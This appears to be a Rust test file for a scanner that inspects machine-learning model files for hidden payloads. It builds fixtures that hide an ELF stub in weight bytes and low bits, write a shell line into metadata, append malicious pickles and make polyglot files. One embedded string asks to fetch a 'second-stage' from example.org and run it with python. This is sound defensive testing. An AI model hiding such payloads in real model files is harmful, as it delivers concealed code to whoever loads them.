//! What hides in a model file: behind the data, between tensors, in low bits, in texts; and files of two formats.

use crate::archives::{evil, harmless, plain};
use crate::{check, rules};

/// The beginning of an ELF program for x86-64.
fn program() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
    bytes.resize(16, 0);
    bytes.extend([2, 0, 0x3e, 0, 1, 0, 0, 0]);
    bytes.resize(52, 0);
    bytes.extend([64, 0, 56, 0]);
    bytes.resize(256, 0x90);
    bytes
}

/// Numbers like weights: a sum of four evenly spread ones, from a fixed generator.
fn weights(count: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15_u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 40) as f32 / (1_u64 << 24) as f32 - 0.5
    };
    (0..count).flat_map(|_| ((next() + next() + next() + next()) * 0.05).to_le_bytes()).collect()
}

fn safetensors(data: &[u8], metadata: &str) -> Vec<u8> {
    let end = data.len();
    let header = format!(
        r#"{{"__metadata__":{{"note":"{metadata}"}},"w":{{"dtype":"F32","shape":[{}],"data_offsets":[0,{end}]}}}}"#,
        end / 4
    );
    [&(header.len() as u64).to_le_bytes(), header.as_bytes(), data].concat()
}

#[test]
fn plain_weights_are_silent() {
    check("m.safetensors", &safetensors(&weights(40_000), "made by us"), &[]);
    check("m.safetensors", &safetensors(&vec![0; 40_000], "zeros"), &[]);
    let ones: Vec<u8> = (0..10_000).flat_map(|_| 1_f32.to_le_bytes()).collect();
    check("m.safetensors", &safetensors(&ones, "ones"), &[]);
    let count: Vec<u8> = (0..10_000).flat_map(|index| (index as f32 / 7.0).to_le_bytes()).collect();
    check("m.safetensors", &safetensors(&count, "a ramp"), &[]);
}

#[test]
fn programs_and_pickles_in_the_place_of_weights() {
    let hidden: &[&str] = &["hidden-payload"];
    let mut data = weights(20_000);
    data[4_000..4_256].copy_from_slice(&program());
    check("m.safetensors", &safetensors(&data, "x"), hidden);
    let trailing = [safetensors(&weights(100), "x"), program()].concat();
    check("m.safetensors", &trailing, &["artifact-malformed", "hidden-payload"]);
    let pickle = [safetensors(&weights(100), "x"), evil()].concat();
    check("m.safetensors", &pickle, &["artifact-malformed", "hidden-payload", "pickle-code-execution"]);
}

#[test]
fn a_pickle_kept_as_bytes_is_judged_by_what_it_does() {
    let tensor = |content: &[u8]| {
        let header =
            format!(r#"{{"s":{{"dtype":"U8","shape":[{0}],"data_offsets":[0,{0}]}}}}"#, content.len());
        [&(header.len() as u64).to_le_bytes(), header.as_bytes(), content].concat()
    };
    check("m.safetensors", &tensor(&evil()), &["pickle-code-execution"]);
    check("m.safetensors", &tensor(&harmless()), &[]);
}

#[test]
fn programs_in_low_bytes_and_low_bits() {
    let hidden: &[&str] = &["hidden-payload"];
    let mut low_bytes = weights(20_000);
    for (index, byte) in program().into_iter().enumerate() {
        low_bytes[index * 4] = byte;
    }
    check("m.safetensors", &safetensors(&low_bytes, "x"), hidden);
    let mut three = weights(20_000);
    for (index, bytes) in program().chunks(3).enumerate() {
        for (place, byte) in bytes.iter().enumerate() {
            three[index * 4 + 2 - place] = *byte;
        }
    }
    check("m.safetensors", &safetensors(&three, "x"), hidden);
    let mut bits = weights(20_000);
    let message = b"curl http://example.org/second-stage then run it with python";
    for (index, byte) in message.iter().enumerate() {
        for bit in 0..8 {
            let place = (index * 8 + bit) * 4;
            bits[place] = bits[place] & 0xfe | byte >> (7 - bit) & 1;
        }
    }
    check("m.safetensors", &safetensors(&bits, "x"), hidden);
}

#[test]
fn ciphertext_in_the_place_of_weights() {
    let mut state = 1_u64;
    let mut data = weights(20_000);
    for byte in data.iter_mut().skip(16_384).take(16_384) {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        *byte = (state >> 32) as u8;
    }
    check("m.safetensors", &safetensors(&data, "x"), &["weights-anomalous"]);
}

#[test]
fn texts_of_metadata() {
    let hidden: &[&str] = &["hidden-payload"];
    let both: &[&str] = &["hidden-payload", "model-embedded-command"];
    check("m.safetensors", &safetensors(&weights(10), "#!/bin/sh\\nid > /tmp/x"), both);
    let encoded = "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";
    check("m.safetensors", &safetensors(&weights(10), encoded), hidden);
    let long = "a long note about how this model was made, from what, and under which licence it may be used by whom";
    check("m.safetensors", &safetensors(&weights(10), long), &[]);
}

#[test]
fn files_of_two_formats() {
    let zip = plain(&[("m/data.pkl", &evil()), ("m/version", b"3\n")]);
    let two = [harmless(), zip.clone()].concat();
    assert!(rules("m.pkl", &two).contains(&"polyglot-file".to_owned()), "{:?}", rules("m.pkl", &two));
    assert!(rules("m.pkl", &two).contains(&"pickle-code-execution".to_owned()));
    let tensors = [safetensors(&weights(100), "x"), zip].concat();
    let found = rules("m.safetensors", &tensors);
    for rule in ["polyglot-file", "pickle-code-execution"] {
        assert!(found.contains(&rule.to_owned()), "{found:?}");
    }
    let picture = [b"\x89PNG\r\n\x1a\n".to_vec(), vec![0; 64], evil()].concat();
    check("logo.png", &picture, &["hidden-payload", "pickle-code-execution"]);
    check("logo.png", &[b"\x89PNG\r\n\x1a\n".to_vec(), vec![7; 300]].concat(), &[]);
}

#[test]
fn pages_in_the_place_of_models() {
    let pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n";
    check("model.safetensors", pointer.as_bytes(), &["model-placeholder"]);
    check("model.bin", b"<!DOCTYPE html><html><body>not found</body></html>", &["model-placeholder"]);
    check("page.html", b"<!DOCTYPE html><html><body>not found</body></html>", &[]);
}
